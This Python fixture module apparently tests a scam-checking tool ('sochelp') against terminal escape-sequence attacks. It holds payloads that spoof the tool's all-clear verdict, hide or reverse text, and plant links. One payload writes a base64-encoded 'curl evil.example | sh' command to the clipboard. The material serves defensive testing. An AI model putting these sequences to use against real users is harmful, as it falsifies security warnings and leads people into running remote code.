"""Escape-sequence attacks, as a scammer would put them in a message, an overlay or a file name.

Each moves the cursor, rewrites or hides what sochelp printed, opens a link, writes the
clipboard or the window title, or makes text read backwards. ``SPOOF`` is what they try to put
on screen: sochelp's own words for a message with no warning signs.
"""

from __future__ import annotations

SPOOF = "No known warning signs found"
#: The spoof with cursor-forward steps between words, so it needs no space (a link carries it).
_SPOOF_NO_SPACES = "\x1b[1C".join(SPOOF.split())

ATTACKS: dict[str, str] = {
    # Save the cursor, go up, clear the line, print the spoof in green, go back.
    "save-up-clear": f"\x1b7\x1b[12A\x1b[2K\x1b[1;32m{_SPOOF_NO_SPACES}\x1b[0m\x1b8",
    "up-clear-many": "\x1b[3A\x1b[2K" * 6 + f"\x1b[32m{_SPOOF_NO_SPACES}\x1b[0m",
    "clear-screen-home": f"\x1b[2J\x1b[H{_SPOOF_NO_SPACES}",
    "osc8-hyperlink": "\x1b]8;;https://evil.example/\x1b\\Click-here\x1b]8;;\x1b\\",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "osc0-title": "\x1b]0;sochelp:\x1b[1Cno\x1b[1Cwarning\x1b[1Csigns\x07",
    "dcs": "\x1bP1$r0m\x1b\\\x1bPq#0;2;0;0;0#0~~\x1b\\",
    "c1-csi": f"\u009b2J\u009bH{_SPOOF_NO_SPACES}",
    "c1-osc": "\u009d8;;https://evil.example/\u009cClick\u009d8;;\u009c",
    "backspace-overwrite": "\b" * 24 + "paypal.com/login",
    # (a carriage return ends the link, so what follows it is never printed at all)
    "cr-overwrite": f"\r{SPOOF}",
    "hidden-text": f"\x1b[8m{_SPOOF_NO_SPACES}\x1b[28m",
    "blink": "\x1b[5mURGENT\x1b[25m",
    "bidi-override": "\u202emoc.lapyap\u202c",
    "bidi-isolate": "\u2067moc.lapyap\u2069",
    "reset-terminal": "\x1bc",
    "bell-and-delete": "\x07\x07\x7f\x7f",
}

#: Rich markup that would turn live if content were printed as markup.
MARKUP = "[link=https://evil.example/]click[/link] [blink]now[/blink] [conceal]hidden[/conceal]"


def scam_message(payload: str) -> str:
    """A 'Hi Mum' scam with a look-alike link; the payload is glued to the link, so it is part
    of the evidence and of the link list that sochelp prints."""
    return (
        "Hi Mum, my phone broke so this is my new number. Please send £200 urgently, "
        f"I'll pay you back. Pay at https://paypa1.com/login{payload} today\n"
    )
